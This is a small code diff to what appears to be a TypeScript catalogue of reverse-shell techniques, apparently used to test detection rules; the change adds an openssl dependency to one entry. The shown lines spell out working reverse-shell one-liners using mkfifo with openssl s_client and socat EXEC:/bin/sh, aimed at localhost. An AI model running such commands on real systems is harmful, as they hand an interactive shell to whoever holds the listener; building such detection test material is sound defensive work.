@@ -114,7 +114,7 @@ export const reverseShells: Technique[] = [
     "relayed-shell",
     (to) =>
       inShell(`mkfifo /tmp/tls; sh -i </tmp/tls 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${to} >/tmp/tls`),
-    { rules: ["encrypted-client-as-a-shell-s-transport"] },
+    { needs: ["openssl"], rules: ["encrypted-client-as-a-shell-s-transport"] },
   ),
   shell("socat", "relayed-shell", (to) => `socat TCP:127.0.0.1:${to} EXEC:/bin/sh`, {
     needs: ["interpreters"],
